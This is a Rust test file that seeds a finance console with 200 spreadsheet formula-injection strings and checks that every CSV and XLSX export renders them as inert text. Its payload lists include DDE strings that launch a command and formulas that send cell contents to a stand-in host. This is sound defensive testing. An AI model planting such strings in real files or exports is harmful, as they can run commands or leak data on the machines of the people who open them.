//! Nothing that somebody typed is a formula in any file that the console gives out.

use std::{
    collections::{HashMap, HashSet},
    env, fs,
    io::Cursor,
    path::{Path, PathBuf},
    process::Command,
};

use axum::body::Body;
use calamine::{Data, Reader as _, Xlsx};
use http::Method;
use http_body_util::BodyExt as _;
use reference_server::{contest::organiser::Role, store::audit, web};
use tower::ServiceExt as _;

use super::{money::decided, signed_in_as, step_up};
use crate::{
    app::{FIRST_CITY, TestApp},
    web::browser::Browser,
};

/// What a spreadsheet may take for the beginning of a formula, or may skip before one.
const STARTS: [&str; 20] = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "  @",
    "\u{3000}=",
    "\u{a0}=",
    "\u{feff}=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "\"=",
    ";=",
    ",=",
];
/// What would then be calculated, fetched or run.
const REST: [&str; 10] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"http://e.example/?\"&A1,\"点我\")",
    "cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    "WEBSERVICE(\"http://e.example/\"&A2)",
    "IMPORTXML(\"http://e.example\",\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "IFERROR(A1/0,\"x\")",
    "0",
];

fn payloads() -> Vec<String> {
    let all = STARTS
        .iter()
        .flat_map(|start| REST.map(|rest| format!("{start}{rest}")));
    all.collect()
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// A contest in which every payload is a name, a reason, an owner, a number and a district.
async fn scene() -> TestApp {
    let test = TestApp::new().await;
    decided(&test).await;
    let mut raw = test.raw();
    for (nth, payload) in (100..).zip(payloads()) {
        let text = quoted(&payload);
        raw.run(&format!(
            "INSERT INTO organiser (organiser, display_name, roles, password, totp_sealed, totp_step,
                 created_by, created_ms, changed_ms)
             VALUES ('typed-{nth}', {text}, 'auditor', NULL, '', 0, 'server', 1, 1);
             INSERT INTO incident (incident, class, bill_number, occurrence, day, ours_fen, bill_fen,
                 evidence, opened_ms, owner)
             VALUES ({nth}, 'R5', {text}, {nth}, 18374, 0, 1, {text}, 1, {text});
             INSERT INTO transfer (city, number, debit, credit, amount_fen, bill_number, at_ms)
             VALUES ('{FIRST_CITY}', {nth}, 'left', 'suspense', 1, {text}, 1587520800000)"
        ));
    }
    test.app
        .store
        .write(|tx| {
            for payload in payloads() {
                audit::append(tx, 1_587_520_800_000, "somebody", &payload, &payload)?;
            }
            Ok::<_, reference_server::store::StoreError>(())
        })
        .await
        .unwrap();
    test
}

/// The bytes of a file.
async fn file(test: &TestApp, browser: &Browser, target: &str) -> Option<(String, Vec<u8>)> {
    let request = browser.request(Method::GET, target).body(Body::empty());
    let router = web::router(std::sync::Arc::clone(&test.app));
    let response = router.oneshot(request.unwrap()).await.unwrap();
    let kind = response
        .headers()
        .get("content-type")?
        .to_str()
        .ok()?
        .to_owned();
    let is_file = response.headers().contains_key("content-disposition");
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    is_file.then(|| (kind, bytes.to_vec()))
}

/// Whether a spreadsheet would calculate it; a number is none.
fn is_formula(cell: &str) -> bool {
    let shown = cell.trim_start_matches([' ', '\u{a0}', '\u{3000}', '\u{feff}']);
    let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    cell.parse::<f64>().is_err() && (cell.starts_with(starts) || shown.starts_with(starts))
}

#[track_caller]
fn assert_csv(place: &str, bytes: &[u8]) -> Vec<String> {
    let text = std::str::from_utf8(bytes).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = Vec::new();
    for row in reader.records() {
        for cell in &row.unwrap() {
            assert!(!is_formula(cell), "{place}: {cell:?}");
            cells.push(cell.to_owned());
        }
    }
    cells
}

#[track_caller]
fn assert_workbook(place: &str, bytes: &[u8]) -> Vec<String> {
    let mut book = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let mut texts = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        for (_row, _column, formula) in formulas.cells() {
            assert!(formula.is_empty(), "{place} {name}: {formula}");
        }
        let sheet = book.worksheet_range(&name).unwrap();
        for (_row, _column, cell) in sheet.cells() {
            match cell {
                Data::String(text) => texts.push(text.clone()),
                Data::Float(_) | Data::Int(_) | Data::Empty => {}
                other => panic!("{place} {name}: neither text nor number: {other:?}"),
            }
        }
    }
    texts
}

/// The `LibreOffice` of this machine, if it has one.
#[expect(
    clippy::print_stdout,
    reason = "what could not be checked must be said"
)]
fn office() -> Option<PathBuf> {
    let path = env::var_os("PATH").unwrap_or_default();
    let found = env::split_paths(&path)
        .flat_map(|folder| ["soffice", "libreoffice"].map(|name| folder.join(name)))
        .find(|program| program.is_file());
    if found.is_none() {
        assert!(
            env::var_os("CI").is_none(),
            "a spreadsheet is needed where CI is set; Debian calls it libreoffice-calc-nogui"
        );
        println!("NOT CHECKED: there is no LibreOffice on this machine to open the files with");
    }
    found
}

/// Files that were given out, each once, with the texts that stand in them.
#[derive(Default)]
struct Given {
    files: HashMap<Vec<u8>, (String, Vec<String>)>,
}

impl Given {
    fn add(&mut self, place: &str, bytes: Vec<u8>, texts: Vec<String>) {
        self.files.insert(bytes, (place.to_owned(), texts));
    }

    /// `LibreOffice` shows what was typed as it is: it calculated none. Of text it reads UTF-8,
    /// takes no quoted field for a text, and calculates every formula.
    fn assert_shown(&self, office: &Path, ending: &str) {
        const TEXT: &str = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false";
        let folder = tempfile::TempDir::new().unwrap();
        let profile = folder.path().join("profile");
        let mut command = Command::new(office);
        command
            .arg(format!(
                "-env:UserInstallation=file://{}",
                profile.display()
            ))
            .arg("--headless");
        if ending == "csv" {
            command.arg(format!("--infilter={TEXT},-1,true"));
        }
        // Every sheet becomes a file of its own.
        command.args(["--convert-to", &format!("csv:{TEXT},-1"), "--outdir"]);
        let made = folder.path().join("made");
        command.arg(&made);
        let mut kept = Vec::new();
        for (nth, (bytes, (place, texts))) in self.files.iter().enumerate() {
            let file = folder.path().join(format!("{nth}.{ending}"));
            fs::write(&file, bytes).unwrap();
            command.arg(file);
            kept.push((place, texts, HashSet::new()));
        }
        let done = command.output().unwrap();
        assert!(done.status.success(), "{done:?}");
        for sheet in fs::read_dir(made).unwrap() {
            let sheet = sheet.unwrap().path();
            let name = sheet.file_stem().unwrap().to_str().unwrap();
            let nth: usize = name.split('-').next().unwrap().parse().unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_path(&sheet)
                .unwrap();
            for row in reader.records() {
                kept[nth].2.extend(row.unwrap().iter().map(one_line));
            }
        }
        let payloads = payloads();
        for (place, texts, shown) in kept {
            assert!(!shown.is_empty(), "{place} could not be opened");
            let is_typed = |text: &&String| payloads.iter().any(|payload| text.ends_with(payload));
            for text in texts.iter().filter(is_typed) {
                assert!(shown.contains(&one_line(text)), "{place}: {text:?}");
            }
        }
    }
}

/// A text as it reads on one line.
fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[tokio::test]
async fn two_hundred_formulas_are_texts_in_every_file_of_the_console() {
    let test = scene().await;
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    let mut seen = 0;
    let (mut tables, mut workbooks) = (Given::default(), Given::default());
    for (name, role) in [
        ("an-auditor", Role::Auditor),
        ("an-operator", Role::FinanceOperator),
    ] {
        let mut browser = signed_in_as(&test, name, role).await;
        step_up(&test, &mut browser, name).await;
        for line in web::console_matrix().lines().skip(2) {
            let cells: Vec<&str> = line.trim_matches('|').split('|').map(str::trim).collect();
            let path = cells[1].trim_matches('`').replace("{city}", FIRST_CITY);
            let is_page = cells[0] == "GET" && !path.contains('{') && !path.starts_with("/api/");
            if !is_page || path.ends_with("/live") {
                continue;
            }
            for query in ["", "&list=people", "&who=all&state=all"] {
                let csv = format!("{path}?file=csv{query}");
                if let Some((kind, bytes)) = file(&test, &browser, &csv).await
                    && kind.starts_with("text/csv")
                {
                    let cells = assert_csv(&csv, &bytes);
                    let is_there = |payload: &&String| {
                        let typed = format!("'{payload}");
                        cells.iter().any(|cell| *cell == typed || cell == *payload)
                    };
                    seen += payloads.iter().filter(is_there).count();
                    tables.add(&csv, bytes, cells);
                }
                let xlsx = format!("{path}?file=xlsx{query}");
                if let Some((kind, bytes)) = file(&test, &browser, &xlsx).await
                    && kind.contains("spreadsheetml")
                {
                    let texts = assert_workbook(&xlsx, &bytes);
                    seen += payloads
                        .iter()
                        .filter(|payload| texts.contains(payload))
                        .count();
                    workbooks.add(&xlsx, bytes, texts);
                }
            }
        }
    }
    // Accounts, the audit log, incidents and postings have each of them, in both forms.
    assert!(seen >= 4 * 200, "{seen} payloads in the files");
    if let Some(office) = office() {
        tables.assert_shown(&office, "csv");
        workbooks.assert_shown(&office, "xlsx");
    }
}
